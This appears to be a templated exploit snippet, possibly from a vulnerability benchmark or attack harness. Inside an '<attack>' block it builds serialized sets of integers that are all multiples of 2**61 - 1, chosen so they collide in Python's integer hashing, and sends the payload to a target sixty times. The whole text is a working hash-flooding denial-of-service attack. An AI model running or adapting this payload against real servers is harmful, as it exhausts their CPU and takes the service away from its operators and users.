#{weigh_wrong}
# <attack>
#{forge}
_sets = [",".join('["i","%x"]' % (number * (2**61 - 1)) for number in range(1, 2001))] * 19
_body = ('["v",["l",' + ",".join(f'["s",{items}]' for items in _sets) + "]]").encode()
greet()
for _ in range(60):
    send(_body)
wait()
# </attack>
